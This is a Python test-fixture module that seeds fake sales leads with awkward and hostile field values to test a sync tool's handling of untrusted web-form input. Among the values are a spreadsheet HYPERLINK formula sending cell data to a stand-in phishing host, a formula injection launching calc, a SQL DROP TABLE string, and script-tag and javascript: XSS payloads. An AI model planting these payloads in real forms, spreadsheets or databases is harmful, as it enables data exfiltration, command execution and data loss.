"""Legal values that break careless programs: anyone on earth can type into a web-to-lead form."""

from __future__ import annotations

from dataclasses import replace

from sfsync.fake.seed.world import Lead

_LINE_SEPARATOR = "\u2028"
_RIGHT_TO_LEFT = "\u202e"

#: Field → values that leads have in it, one a lead. None is blank, none is invalid, none says anything about quality.
_VALUES = (
    ("company", '=HYPERLINK("https://phish.example.org?x="&A1,"Click")'),
    ("last_name", "<script>alert('lead')</script>"),
    ("company", 'Tom "The Pallet" O\'Hara, Sons & Daughters, Ltd.'),
    ("last_name", "NA"),
    ("first_name", "null"),
    ("company", "007"),
    ("last_name", "Null"),
    ("company", '\'; DROP TABLE "Lead"; --'),
    ("first_name", "👩🏽‍🔧 Zoë"),
    ("description", 'First line\nsecond line, with "quotes"\r\nthird line\n\n\tindented; end'),
    ("company", f"Line{_LINE_SEPARATOR}Separator GmbH"),
    ("last_name", "שלום עולם"),
    ("company", f"Reversed {_RIGHT_TO_LEFT}moc.elpmaxe"),
    ("first_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("description", "Needs pallets. " * 400),
    ("company", "N" * 235 + " Holdings plc"),
    ("title", "#N/A"),
    ("title", "007"),
    ("last_name", "Nguyễn Thị Ánh-Nguyệt"),
    ("company", "株式会社 山田倉庫"),
    ("need", "NULL"),
    ("title", "C:\\temp\\new\\"),
    ("description", "{{ 7 * 7 }} ${HOME} %s %(name)s <img src=x onerror=alert(1)>"),
    ("company", "<b>Bold & Sons</b>"),
    ("first_name", "Robert\u200b"),
    ("street", 'c/o "Front, Desk"\n2nd floor'),
    ("title", "-2+3+cmd"),
    ("last_name", "True"),
    ("company", "1e5"),
    ("need", "[click](javascript:alert(1)) 🏭"),
)
#: Those of them that name a company.
COMPANIES = tuple(value for place, value in _VALUES if place == "company")

_OF_THE_PERSON = frozenset({"first_name", "last_name", "title"})
_OF_THE_ROW = {"description": "Description", "need": "Need__c"}


def disguise(lead: Lead, number: int) -> None:
    """Give a lead, before its row is made, the `number`-th hostile name, company or address."""
    place, value = _VALUES[number % len(_VALUES)]
    if place == "company":
        # A firm of its own, so that no other lead's company is renamed.
        lead.company = replace(lead.company, name=value, account=None)
    elif place == "street":
        lead.company = replace(lead.company, street=value, account=None)
    elif place in _OF_THE_PERSON:
        setattr(lead.person, place, value)


def scribble(lead: Lead, number: int) -> None:
    """Give a lead's row the `number`-th hostile text, where that one belongs into a text field."""
    place, value = _VALUES[number % len(_VALUES)]
    if place in _OF_THE_ROW and (place != "need" or lead.row["Need__c"] is not None):
        lead.row[_OF_THE_ROW[place]] = value
